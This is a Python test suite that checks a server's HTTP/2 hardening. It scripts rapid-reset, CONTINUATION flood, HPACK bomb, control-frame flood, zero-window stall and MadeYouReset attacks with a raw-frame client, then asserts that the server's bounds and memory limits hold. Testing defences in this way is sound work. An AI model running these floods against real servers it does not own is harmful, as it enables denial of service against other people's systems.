#!/usr/bin/env python3
"""HTTP/2 abuse suite: each attack of issue 27 scripted with the raw-frame
client of conformance.py, its bound asserted, and the server still serving
others while it runs.

Owns the attack cases only; the client (TLS, frames, HPACK, expectations)
is conformance.py's. What the client cannot see itself it asks of the test
that runs it (tests/h2_abuse.rs), one line on stdout each, answered by one
line on stdin:

  ? rss          -> "KIB PEAK_KIB": the server's resident memory now and
                    its peak since the last `? reset-peak`
  ? reset-peak   -> "ok": the peak starts again from the resident size
  ? witness      -> "ok" or a reason: a normal client (curl --http2) got
                    a whole, correct response
  ? metrics      -> "EVENT=N ...": tlsfront_http2_events_total now
  ? fds          -> "N": the server's open descriptors

Usage:
  abuse.py --connect HOST:PORT --authority NAME --cafile CA.pem
           --path /large-file --small /small-file --idle S [--only REGEX]
Prints `ok   ID description: what the server did` or `FAIL ID description:
why` per case, in order; exits 1 if any case fails. Cases run one after
another (several connections each), so that memory is measured per attack.
"""

import argparse
import os
import re
import select
import socket
import ssl
import struct
import sys
import threading
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import conformance as h2  # noqa: E402
from conformance import (  # noqa: E402
    CONTINUATION, DATA, E, END_HEADERS, GOAWAY, HEADERS, PING, RST_STREAM,
    S_INITIAL_WINDOW_SIZE, SETTINGS, WINDOW_UPDATE, Conn, Fail, Timeout, lit, plain, raw,
)

CALM = E["ENHANCE_YOUR_CALM"]
# Streams a connection may spend on resets, refusals and malformed requests
# before it must have been ended: the budgets of the mitigations as the
# issue states them, far from what an unbounded server would take.
STREAM_BOUND = 200
# Frames that do nothing (PING, SETTINGS, empty DATA or CONTINUATION, ...)
# a connection may send past its requests before it must have been ended.
GLITCH_BOUND = 20_000
PARALLEL = 20  # connections of each memory-bound attack
# Streams a connection answers from files at once (src/serve/h2/conn.rs).
FILE_STREAMS = 8
KIB = 1024

_ask_lock = threading.Lock()


def ask(question):
    with _ask_lock:
        print(f"? {question}", flush=True)
        answer = sys.stdin.readline()
    if not answer:
        raise Fail(f"an answer to '? {question}'", "the test closed stdin")
    return answer.strip()


def rss():
    now, peak = ask("rss").split()
    return int(now), int(peak)


def fds():
    """The server's open descriptors."""
    return int(ask("fds"))


def reset_peak():
    ask("reset-peak")
    return rss()[0]


def baseline(o, n=PARALLEL):
    """Peak RSS growth, KiB, of n connections that do nothing wrong, held
    open together: the cost of the connections themselves (TLS, buffers),
    which an attack's bound comes on top of."""
    base = reset_peak()
    conns = parallel(n, lambda i: Conn(o))
    parallel(n, lambda i: conns[i].alive())
    _, peak = rss()
    for c in conns:
        c.close()
    return max(0, peak - base)


def check_peak(base, peak, normal, per_conn_kib, what=""):
    """The attack's peak growth stays within normal (the same connections
    doing nothing wrong) plus per_conn_kib a connection."""
    bound = normal + PARALLEL * per_conn_kib
    if peak - base > bound:
        raise Fail(f"peak RSS growth under {bound} KiB ({normal} KiB for {PARALLEL} normal connections "
                   f"+ {per_conn_kib} KiB each){what}", f"{peak - base} KiB")
    return f"peak RSS +{peak - base} KiB (bound {bound} KiB: {normal} for {PARALLEL} normal connections + {per_conn_kib} each)"


def metrics():
    return {k: int(v) for k, v in (w.split("=") for w in ask("metrics").split())}


def wait_metrics(before, want, bound=30.0):
    """Wait until each event in want grew by at least its count (the server
    adds a connection's events once it is closed)."""
    deadline = time.monotonic() + bound
    while True:
        now = metrics()
        short = {k: now.get(k, 0) - before.get(k, 0) for k in want if now.get(k, 0) - before.get(k, 0) < want[k]}
        if not short:
            return {k: now.get(k, 0) - before.get(k, 0) for k in want}
        if time.monotonic() > deadline:
            raise Fail(f"tlsfront_http2_events_total to grow by {want}", f"growth {short} after {bound:g} s")
        time.sleep(0.05)


def witness():
    answer = ask("witness")
    if answer != "ok":
        raise Fail("a normal client served meanwhile", answer)


class Witnessed:
    """Normal requests, one after another, for as long as the attack runs
    (at least one, begun with it), and one after it."""

    def __enter__(self):
        self.done = threading.Event()
        self.error = None
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()
        return self

    def _run(self):
        while True:
            try:
                witness()
            except Fail as e:
                self.error = e
                return
            if self.done.is_set():
                return

    def __exit__(self, *exc):
        self.done.set()
        self.thread.join()
        if exc[0] is None:
            if self.error:
                raise self.error
            witness()
        return False


def parallel(n, fn):
    """fn(i) on n threads; the first failure is raised once all ended."""
    errors, results = [None] * n, [None] * n

    def run(i):
        try:
            results[i] = fn(i)
        except Fail as e:
            errors[i] = e
        except (OSError, ssl.SSLError) as e:
            errors[i] = Fail("the connection", repr(e))

    threads = [threading.Thread(target=run, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for e in errors:
        if e:
            raise e
    return results


def goaway_then_close(c, codes, probe=None, what="GOAWAY"):
    """Read until GOAWAY with one of codes, then until the server closes;
    returns the GOAWAY. A PING ACK with payload probe first means the server
    went on past the attack: fail."""
    want = f"GOAWAY({h2.codes_text(codes)}) then close"
    while True:
        try:
            f = c.next_frame()
        except Timeout:
            raise Fail(want, f"no GOAWAY within {c.opts.timeout:g} s")
        if f is None:
            raise Fail(want, "close without GOAWAY")
        if f.type == GOAWAY:
            if f.code not in codes:
                raise Fail(want, f.describe())
            try:
                while c.next_frame() is not None:
                    pass
            except Timeout:
                raise Fail(want, f"{f.describe()} but the connection stayed open")
            return f
        if probe is not None and f.type == PING and f.flags & 1 and f.payload == probe:
            raise Fail(want, f"the PING after {what} answered: the server went on")


def readable(c):
    return c.sock.pending() > 0 or bool(select.select([c.sock], [], [], 0)[0])


def send_until_answered(c, chunks, cap):
    """Send chunks (an iterator of bytes) until the server says something,
    the connection fails or cap bytes went; bytes sent."""
    sent = 0
    for chunk in chunks:
        if sent >= cap or readable(c):
            break
        try:
            c.sock.sendall(chunk)
        except (OSError, ssl.SSLError):
            break
        sent += len(chunk)
    return sent


def flood_unread(c, batches, cap):
    """Send batches without reading, until cap bytes went or the socket took
    nothing for a while: the server stopped reading (its input held back
    while its answers go unread, and the kernel's buffers full). Returns
    whether it stopped, and the bytes sent."""
    c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    c.sock.settimeout(2.0)
    sent = 0
    try:
        for batch in batches:
            if sent >= cap:
                return False, sent
            c.sock.sendall(batch)
            sent += len(batch)
    except (TimeoutError, ssl.SSLError, OSError):
        return True, sent
    finally:
        c.sock.settimeout(max(0.1, c.deadline - time.monotonic()))


CASES = []


def case(cid, desc):
    def wrap(fn):
        CASES.append((cid, desc, fn))
        return fn
    return wrap


def with_timeout(o, seconds):
    return argparse.Namespace(**{**vars(o), "timeout": seconds})


def get_block(c, path=None, method="GET"):
    return c.block_of(c.req(method, path))


def hold_streams(c, n, path):
    """Open n GET streams of path on a connection whose client window is 0
    and wait until the server took them all (a PING after them answered)."""
    sids = [c.sid() for _ in range(n)]
    c.send(*[c.headers(s, c.req(path=path)) for s in sids])
    payload = c.ping()
    heads = set()
    while True:
        f = c.read("the streams' HEADERS and the PING ACK")
        if f.type == HEADERS and f.sid in sids:
            heads.add(f.sid)
        if f.type in (GOAWAY, RST_STREAM) or (f.type == DATA and f.data):
            raise Fail(f"{n} streams held by a window of 0", f.describe())
        if f.type == PING and f.flags & 1 and f.payload == payload:
            return sids, len(heads)


# -- 1 ---------------------------------------------------------------------

@case("rapid-reset", "HEADERS + RST_STREAM pairs as fast as possible (CVE-2023-44487)")
def _(o):
    before = metrics()

    def attack(i):
        c = Conn(o)
        pairs = []
        for _ in range(1000):
            s = c.sid()
            pairs.append(c.headers(s, c.req()) + raw(RST_STREAM, 0, s, struct.pack(">I", E["CANCEL"])))
        c.send(*pairs)
        probe = c.ping()
        g = goaway_then_close(c, [CALM], probe, "1000 resets")
        if g.last_sid > 2 * STREAM_BOUND:
            raise Fail(f"GOAWAY within {STREAM_BOUND} streams", f"last stream {g.last_sid}")
        return g.last_sid

    with Witnessed():
        last = parallel(10, attack)
    grew = wait_metrics(before, {"enhance_your_calm": 10, "client_reset": 10})
    return (f"GOAWAY(ENHANCE_YOUR_CALM) on 10 of 10 connections after at most {(max(last) + 1) // 2} "
            f"streams of 1000 (bound {STREAM_BOUND}); client_reset +{grew['client_reset']}")


# -- 2 ---------------------------------------------------------------------

def continuation_flood(o, empty):
    o = with_timeout(o, 60)
    before = metrics()
    normal = baseline(o)
    base = reset_peak()
    cap = 16 << 20

    def attack(i):
        c = Conn(o)
        s = c.sid()
        c.send(c.headers(s, c.req(), end_headers=False))
        if empty:
            chunk = raw(CONTINUATION, 0, s) * 1000
        else:
            chunk = raw(CONTINUATION, 0, s, lit("x-flood", "f" * 4000)) * 4
        chunks = iter(lambda: chunk, None)
        sent = send_until_answered(c, chunks, cap)
        g = goaway_then_close(c, [CALM])
        if sent >= cap:
            raise Fail(f"GOAWAY before {cap >> 20} MiB of CONTINUATION", f"{g.describe()} only after it")
        return sent

    with Witnessed():
        sent = parallel(PARALLEL, attack)
    _, peak = rss()
    grew = wait_metrics(before, {"enhance_your_calm": PARALLEL})
    mem = check_peak(base, peak, normal, 256)
    kind = "empty CONTINUATION frames" if empty else "CONTINUATION of 16 KiB"
    return (f"{PARALLEL} connections of {kind}: GOAWAY(ENHANCE_YOUR_CALM) on each after at most "
            f"{max(sent) // KIB} KiB sent (cap {cap >> 20} MiB); {mem}; "
            f"enhance_your_calm +{grew['enhance_your_calm']}")


@case("continuation-flood", "HEADERS without END_HEADERS, then CONTINUATION with bytes without end (CVE-2024-27316)")
def _(o):
    return continuation_flood(o, empty=False)


@case("continuation-empty", "HEADERS without END_HEADERS, then empty CONTINUATION frames without end")
def _(o):
    return continuation_flood(o, empty=True)


# -- 3 ---------------------------------------------------------------------

def expect_431_or_reset(c, sid):
    while True:
        f = c.read(f"431 or RST_STREAM on stream {sid}")
        if f.type == GOAWAY:
            raise Fail(f"431 on stream {sid}", f.describe())
        if f.sid == sid and f.type == RST_STREAM:
            return "RST_STREAM"
        if f.sid == sid and f.type == HEADERS:
            if f.status() != "431":
                raise Fail(f"431 on stream {sid}", f.describe())
            if not f.end_stream:
                while True:
                    d = c.read("the 431 page")
                    if d.sid == sid and d.end_stream:
                        break
            return "431"


@case("hpack-bomb", "a 4 KiB dynamic entry referenced 28,000 times; a header list over the limit: 431")
def _(o):
    normal = baseline(o)
    base = reset_peak()

    def attack(i):
        c = Conn(o)
        got = []
        for _ in range(5):
            entry = b"\x40" + h2.hstr("x-bomb") + h2.hstr("b" * 4000)  # incremental indexing: index 62
            block = plain(c.req()) + entry + b"\xbe" * 28_000
            s = c.sid()
            first, rest = block[:16384], block[16384:]
            c.send(raw(HEADERS, 0x1, s, first), raw(CONTINUATION, END_HEADERS, s, rest))
            got.append(expect_431_or_reset(c, s))
            # A list just over the limit, no table: 431 as well.
            block = plain(c.req() + [(f"x-big-{k}", "v" * 4000) for k in range(5)])
            s = c.sid()
            c.send(raw(HEADERS, 0x1, s, block[:16384]), raw(CONTINUATION, END_HEADERS, s, block[16384:]))
            got.append(expect_431_or_reset(c, s))
            # The connection still serves.
            s = c.sid()
            c.send(raw(HEADERS, 0x5, s, plain(c.req(path=o.small))))
            c.expect_response(s, status=200, size=o.small_size)
        return got

    with Witnessed():
        got = parallel(PARALLEL, attack)
    _, peak = rss()
    mem = check_peak(base, peak, normal, 256)
    kinds = sorted(set(k for g in got for k in g))
    return (f"{PARALLEL} connections x 5 bombs (112 MB of fields each) and 5 lists over the limit: "
            f"{'/'.join(kinds)}, then 200 on the same connection; {mem}")


# -- 4 ---------------------------------------------------------------------

def unread_flood(o, name, frame):
    o = with_timeout(o, 60)
    before = metrics()
    normal = baseline(o)
    # Back-pressure: the frames with HEAD requests among them, which keep
    # the budget of frames that do nothing from running out (and whose
    # answers are larger than the requests), so that only the server's
    # holding back of its input bounds what it queues for a client that
    # reads nothing. The server runs with no limit of requests a
    # connection (tests/h2_abuse.rs), so this connection never drains.
    per_batch, heads, cap = 100, 10, 32 << 20
    base = reset_peak()
    results = [None] * PARALLEL
    # Every connection set up before any floods: the bound is the floods'.
    conns = parallel(PARALLEL, lambda i: Conn(o))

    def flood(i):
        c = conns[i]

        def batches():
            while True:
                yield frame * per_batch + b"".join(c.headers(c.sid(), c.req("HEAD", o.small)) for _ in range(heads))
        results[i] = flood_unread(c, batches(), cap)

    with Witnessed():
        parallel(PARALLEL, flood)
        _, peak = rss()
    mem = check_peak(base, peak, normal, 768, " while the answers go unread")
    most = max(n for _, n in results) >> 20
    if not all(held for held, _ in results):
        raise Fail("the server to stop reading a client that reads nothing",
                   f"{sum(not h for h, _ in results)} of {PARALLEL} connections took {cap >> 20} MiB")
    # Megabytes of answers wait in the kernel: the connections just close.
    for c in conns:
        c.close()

    # Without requests: the frames that do nothing run out their budget.
    conns = parallel(PARALLEL, lambda i: Conn(o))

    def glitches(i):
        c = conns[i]
        c.send(frame * (GLITCH_BOUND + 1000))
        goaway_then_close(c, [CALM])

    with Witnessed():
        parallel(PARALLEL, glitches)
    grew = wait_metrics(before, {"enhance_your_calm": PARALLEL})
    return (f"{PARALLEL} connections of {name} frames ({heads} HEAD requests every {per_batch}), "
            f"answers unread: the server stopped reading on each after at most {most} MiB; {mem}; "
            f"{GLITCH_BOUND + 1000} {name} frames alone: "
            f"GOAWAY(ENHANCE_YOUR_CALM) on each; enhance_your_calm +{grew['enhance_your_calm']}")


@case("settings-flood", "SETTINGS frames without end, the ACKs unread")
def _(o):
    return unread_flood(o, "SETTINGS", raw(SETTINGS, 0, 0, struct.pack(">HI", S_INITIAL_WINDOW_SIZE, 65535)))


@case("ping-flood", "PING frames without end, the ACKs unread")
def _(o):
    return unread_flood(o, "PING", raw(PING, 0, 0, b"floodflo"))


@case("window-update-flood", "WINDOW_UPDATE frames without end: on the connection, and on a closed stream")
def _(o):
    o = with_timeout(o, 60)
    before = metrics()
    normal = baseline(o, PARALLEL // 2)
    base = reset_peak()
    n = 200_000

    def conn_window(i):
        c = Conn(o)
        c.send(raw(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * n)
        c.alive()
        c.expect_response(c.get(path=o.small), status=200, size=o.small_size)

    def closed_stream(i):
        c = Conn(o)
        s = c.get(path=o.small)
        c.expect_response(s, status=200, size=o.small_size)
        c.send(raw(WINDOW_UPDATE, 0, s, struct.pack(">I", 1)) * (GLITCH_BOUND + 1000))
        goaway_then_close(c, [CALM], c.ping())

    with Witnessed():
        parallel(PARALLEL // 2, conn_window)
        parallel(PARALLEL // 2, closed_stream)
    _, peak = rss()
    mem = check_peak(base, peak, normal, 128)
    grew = wait_metrics(before, {"enhance_your_calm": PARALLEL // 2})
    return (f"{n} WINDOW_UPDATE(1) on the connection: bounded cost (no answer, no state; the "
            f"connection serves on); {GLITCH_BOUND + 1000} on a closed stream: GOAWAY(ENHANCE_YOUR_CALM) "
            f"({grew['enhance_your_calm']}); {mem}")


@case("empty-data-flood", "empty DATA frames without end on an open stream")
def _(o):
    o = with_timeout(o, 60)
    before = metrics()

    def attack(i):
        c = Conn(o, {S_INITIAL_WINDOW_SIZE: 0})
        s = c.get(end_stream=False)
        c.send(raw(DATA, 0, s) * (GLITCH_BOUND + 1000))
        goaway_then_close(c, [CALM], c.ping())

    with Witnessed():
        parallel(PARALLEL // 2, attack)
    grew = wait_metrics(before, {"enhance_your_calm": PARALLEL // 2})
    return (f"{GLITCH_BOUND + 1000} empty DATA frames on {PARALLEL // 2} connections: "
            f"GOAWAY(ENHANCE_YOUR_CALM) on each ({grew['enhance_your_calm']})")


# -- 5 ---------------------------------------------------------------------

@case("zero-window-stall", "100 streams of a large file each, INITIAL_WINDOW_SIZE 0, on 20 connections held open")
def _(o):
    o = with_timeout(o, 60)
    normal = baseline(o)
    base = reset_peak()
    conns = [None] * PARALLEL

    def stall(i):
        c = Conn(o, {S_INITIAL_WINDOW_SIZE: 0})
        conns[i] = c
        streams = int(c.server.get(h2.S_MAX_CONCURRENT_STREAMS, 100))
        sids, _ = hold_streams(c, streams, o.path)
        return len(sids)

    held = parallel(PARALLEL, stall)
    # Held: the server has every stream, none can send a byte.
    _, peak = rss()
    for _ in range(3):
        witness()
    for c in conns:
        c.alive()
    mem = check_peak(base, peak, normal, 256, " with 100 streams stalled on each")
    for c in conns:
        c.close()
    return (f"{sum(held)} streams stalled on {PARALLEL} connections: {mem}; "
            f"a normal client served 3 times meanwhile")


@case("file-streams", "100 streams of a large file on each of 20 connections, windows of 0, no open-file cache")
def _(o):
    o = with_timeout(o, 60)
    base = fds()
    conns = [None] * PARALLEL

    def hold(i):
        c = Conn(o, {S_INITIAL_WINDOW_SIZE: 0})
        conns[i] = c
        return hold_streams(c, int(c.server.get(h2.S_MAX_CONCURRENT_STREAMS, 100)), o.path)

    held = parallel(PARALLEL, hold)
    # Every stream taken (the PING after them answered), none can move.
    grew = fds() - base
    bound = PARALLEL * (1 + FILE_STREAMS) + 8
    if grew > bound:
        raise Fail(f"at most {bound} more descriptors ({PARALLEL} connections x (1 + {FILE_STREAMS} files))",
                   f"{grew} more")
    answered = {n for _, n in held}
    if answered != {FILE_STREAMS}:
        raise Fail(f"HEADERS for {FILE_STREAMS} streams a connection, the rest waiting", f"{sorted(answered)}")
    # The waiting requests are answered, in the order they came, as the
    # file streams end (here: the client resets them, 3 times).
    c = conns[0]
    sids = held[0][0]
    now = sids[:FILE_STREAMS]
    for turn in range(3):
        c.send(*[raw(RST_STREAM, 0, s, struct.pack(">I", E["CANCEL"])) for s in now])
        want = sids[(turn + 1) * FILE_STREAMS:(turn + 2) * FILE_STREAMS]
        got = []
        while len(got) < len(want):
            f = c.read(f"HEADERS of streams {want}")
            if f.type in (GOAWAY, RST_STREAM):
                raise Fail(f"HEADERS of streams {want}", f.describe())
            if f.type == HEADERS:
                got.append(f.sid)
        if got != want:
            raise Fail(f"HEADERS of streams {want}, in order", f"{got}")
        now = want
    for _ in range(2):
        witness()
    for c in conns:
        c.alive()
        c.close()
    return (f"{sum(len(s) for s, _ in held)} streams on {PARALLEL} connections: {FILE_STREAMS} answered on each, "
            f"+{grew} descriptors (bound {bound}); 3 x {FILE_STREAMS} waiting ones answered in order as others "
            f"ended; a normal client served meanwhile")


# -- 6 ---------------------------------------------------------------------

@case("made-you-reset", "frames that make the server reset streams, repeated (CVE-2025-8671)")
def _(o):
    before = metrics()

    def attack(i):
        c = Conn(o, {S_INITIAL_WINDOW_SIZE: 0})
        frames = []
        for k in range(1000):
            s = c.sid()
            kind = k % 3
            if kind == 0:  # WINDOW_UPDATE of 0 on an open stream
                frames += [c.headers(s, c.req()), raw(WINDOW_UPDATE, 0, s, struct.pack(">I", 0))]
            elif kind == 1:  # DATA on a half-closed (remote) stream
                frames += [c.headers(s, c.req()), raw(DATA, 0, s, b"x")]
            else:  # a malformed request: no :path
                frames.append(raw(HEADERS, 0x5, s, plain([(":method", "GET"), (":scheme", "https"),
                                                          (":authority", o.authority)])))
        c.send(*frames)
        g = goaway_then_close(c, [CALM], c.ping(), "1000 streams reset")
        if g.last_sid > 2 * STREAM_BOUND:
            raise Fail(f"GOAWAY within {STREAM_BOUND} streams", f"last stream {g.last_sid}")
        return g.last_sid

    with Witnessed():
        last = parallel(10, attack)
    grew = wait_metrics(before, {"enhance_your_calm": 10, "stream_error": 10})
    return (f"GOAWAY(ENHANCE_YOUR_CALM) on 10 of 10 connections after at most {(max(last) + 1) // 2} "
            f"streams of 1000 (bound {STREAM_BOUND}); stream_error +{grew['stream_error']}")


# -- 7 ---------------------------------------------------------------------

@case("too-many-streams", "streams past SETTINGS_MAX_CONCURRENT_STREAMS: REFUSED_STREAM, then again and again")
def _(o):
    before = metrics()

    def attack(i):
        c = Conn(o, {S_INITIAL_WINDOW_SIZE: 0})
        limit = c.server.get(h2.S_MAX_CONCURRENT_STREAMS)
        if not limit:
            raise Fail("SETTINGS_MAX_CONCURRENT_STREAMS from the server", "none")
        hold_streams(c, limit, o.path)
        s = c.get()
        f = c.read("REFUSED_STREAM")
        while f.type != RST_STREAM:
            if f.type == GOAWAY:
                raise Fail(f"RST_STREAM(stream {s}, REFUSED_STREAM)", f.describe())
            f = c.read("REFUSED_STREAM")
        if f.sid != s or f.code != E["REFUSED_STREAM"]:
            raise Fail(f"RST_STREAM(stream {s}, REFUSED_STREAM)", f.describe())
        first = s
        c.send(*[c.headers(c.sid(), c.req()) for _ in range(1000)])
        g = goaway_then_close(c, [CALM], c.ping(), "1000 streams past the limit")
        refused = (g.last_sid - first) // 2 + 1
        if refused > STREAM_BOUND:
            raise Fail(f"GOAWAY within {STREAM_BOUND} refused streams", f"{refused}")
        return limit, refused

    with Witnessed():
        got = parallel(5, attack)
    grew = wait_metrics(before, {"enhance_your_calm": 5, "stream_refused": 5})
    limit = got[0][0]
    return (f"stream {limit + 1} refused (REFUSED_STREAM) past the limit of {limit}; GOAWAY(ENHANCE_YOUR_CALM) "
            f"after at most {max(r for _, r in got)} refused (bound {STREAM_BOUND}) on 5 of 5 connections; "
            f"stream_refused +{grew['stream_refused']}")


# -- 8 ---------------------------------------------------------------------

@case("idle", "a connection that sends the preface and nothing else; one idle after a request")
def _(o):
    o = with_timeout(o, o.idle + 60)
    before = metrics()

    def idle(i):
        start = time.monotonic()
        c = Conn(o)
        if i % 2:
            c.expect_response(c.get(path=o.small), status=200, size=o.small_size)
            start = time.monotonic()
        g = goaway_then_close(c, [E["NO_ERROR"]])
        took = time.monotonic() - start
        if took < o.idle * 0.9:
            raise Fail(f"the close after the idle timeout of {o.idle:g} s", f"{g.describe()} after {took:.1f} s")
        return took

    with Witnessed():
        took = parallel(4, idle)
    grew = wait_metrics(before, {"idle_timeout": 4})
    return (f"GOAWAY(NO_ERROR) then close after {min(took):.1f} to {max(took):.1f} s (timeout {o.idle:g} s, "
            f"bound {o.timeout:g} s); idle_timeout +{grew['idle_timeout']}")


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--connect", required=True, help="HOST:PORT")
    ap.add_argument("--authority", required=True, help="SNI and :authority")
    ap.add_argument("--cafile", required=True)
    ap.add_argument("--path", required=True, help="a file larger than 64 KiB")
    ap.add_argument("--small", required=True, help="a small file")
    ap.add_argument("--small-size", type=int, required=True)
    ap.add_argument("--idle", type=float, required=True,
                    help="the server's idle timeouts (request head and keep-alive), seconds")
    ap.add_argument("--only", help="run the cases whose id or description matches this regex")
    ap.add_argument("--timeout", type=float, default=20.0, help="bound of each connection, seconds")
    o = ap.parse_args()
    o.size = 0
    failed = 0
    for cid, desc, fn in CASES:
        if o.only and not re.search(o.only, f"{cid} {desc}"):
            continue
        co = argparse.Namespace(**vars(o), current=cid)
        try:
            what = fn(co)
            print(f"ok   {cid} {desc}: {what}", flush=True)
        except Fail as e:
            failed += 1
            print(f"FAIL {cid} {desc}: {e}", flush=True)
        except (OSError, ssl.SSLError) as e:
            failed += 1
            print(f"FAIL {cid} {desc}: connection failed: {e!r}", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
